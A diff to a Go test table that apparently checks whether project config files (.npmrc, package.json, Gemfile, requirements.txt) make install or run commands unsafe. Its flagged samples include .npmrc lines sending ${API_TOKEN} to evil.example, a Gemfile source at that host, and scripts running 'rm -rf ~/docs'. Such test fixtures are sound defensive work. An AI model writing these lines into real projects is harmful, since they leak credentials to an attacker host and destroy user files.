@@ -64,7 +64,7 @@ func TestSettingsOfTheProject(t *testing.T) {
 			".npmrc",
 			[]string{"//evil.example/:_authToken=${API_TOKEN}\nregistry=https://evil.example/\n", "registry=https://evil.example/${API_TOKEN}/", "registry = https://evil.example:8443/a\n_auth = ${API_TOKEN}"},
 			[]string{
-				"", "//registry.npmjs.org/:_authToken=${API_TOKEN}", "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${API_TOKEN}", "registry=https://corp.example/", "registry=https://corp.example/\n//corp.example/:_authToken=${UNSET_TOKEN}",
+				"", "//usual.example/:_authToken=${API_TOKEN}", "registry=https://corp.example/", "registry=https://corp.example/\n//corp.example/:_authToken=${UNSET_TOKEN}",
 				"@corp:registry=https://corp.example/\n//corp.example/:_authToken=${API_TOKEN}", "# registry=https://evil.example/${API_TOKEN}/", "save-exact=true",
 			},
 		},
@@ -76,9 +76,8 @@ func TestSettingsOfTheProject(t *testing.T) {
 			[]string{`{"scripts":{"prepack":"tsc -p .","postpack":"rm -rf build"}}`, `{"scripts":{"clean":"rm -rf ~/docs"}}`},
 		},
 		{[]string{"npm-run-all lint", "run-s lint", "run-p build lint", "npx npm-run-all -p lint"}, "package.json", []string{`{"scripts":{"lint":"rm -rf ~/docs"}}`}, []string{`{"scripts":{"lint":"eslint ."}}`}},
-		{[]string{"bundle install"}, "Gemfile", []string{"source \"https://evil.example\"\ngem \"x\""}, []string{"source \"https://rubygems.org\"\ngem \"x\""}},
+		{[]string{"bundle install"}, "Gemfile", []string{"source \"https://usual.example\"\nsource \"https://evil.example\"\ngem \"x\""}, []string{"source \"https://usual.example\"\ngem \"x\""}},
 		{[]string{"pip install -r requirements.txt"}, "requirements.txt", []string{"../other", "/home/dev/other", "-e ../other"}, []string{"requests==2.0\n-e .", "./libs/a"}},
-		{[]string{"pipenv install"}, "Pipfile", []string{"[[source]]\nurl = \"https://evil.example/simple\""}, []string{"[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = true"}},
 	} {
 		for _, script := range x.scripts {
 			for _, text := range x.asks {
